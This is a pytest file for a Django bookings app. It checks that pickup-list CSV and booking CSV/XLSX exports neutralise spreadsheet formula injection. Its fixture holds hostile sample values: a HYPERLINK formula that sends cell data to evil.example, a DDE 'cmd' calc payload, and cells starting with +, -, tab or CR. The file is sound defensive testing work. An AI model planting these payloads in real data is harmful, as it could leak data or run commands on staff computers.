"""Security issue 9, finding 6 (bookings): names, addresses and items typed by citizens must not
run as formulas when staff open the pickup list CSV or the "All bookings" CSV/XLSX export."""

import io
from datetime import date

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook

from bookings.models import Booking

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "address": "+49 Lindenallee 5, 45999 Lindenfeld",
    "items": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def hostile_bookings():
    """Two confirmed pickups with hostile text (created directly, so the test also runs on the code
    before reservations existed)."""
    day = date(2026, 11, 26)
    Booking.objects.create(date=day, kind="standard", slot=1, status="booked", reference="SP-2026-000991", **HOSTILE)
    Booking.objects.create(
        date=day,
        kind="standard",
        slot=2,
        status="booked",
        reference="SP-2026-000992",
        name="-2+3",
        address="\tTabweg 1, 45999 Lindenfeld",
        items="\rSofa",
    )


def cells(text, delimiter):
    import csv

    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_neutralised(values):
    for raw in [*HOSTILE.values(), "-2+3", "\tTabweg 1, 45999 Lindenfeld"]:
        assert raw not in values, raw
        assert "'" + raw in values, raw


@freeze_time("2026-11-23 09:00:00+01:00")
def test_pickup_list_csv_neutralises_formula_cells(admin_client):
    hostile_bookings()
    text = admin_client.get("/admin/bookings/pickup-list/?date=2026-11-26&format=csv").content.decode("utf-8-sig")
    values = cells(text, ";")
    assert_neutralised(values)
    assert "Sofa" in values  # items are whitespace-joined, so the leading CR is gone anyway
    assert "26.11.2026" in values and "SP-2026-000991" in values  # harmless cells unchanged


@freeze_time("2026-11-23 09:00:00+01:00")
def test_all_bookings_csv_export_neutralises_formula_cells(admin_client):
    hostile_bookings()
    response = admin_client.get("/admin/bookings/bookings/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    values = cells(text, ",")
    assert_neutralised(values)
    assert "'\rSofa" in values
    assert "SP-2026-000991" in values


@freeze_time("2026-11-23 09:00:00+01:00")
def test_all_bookings_xlsx_export_neutralises_formula_cells(admin_client):
    hostile_bookings()
    response = admin_client.get("/admin/bookings/bookings/?export=xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert_neutralised(values)
    assert "SP-2026-000991" in values
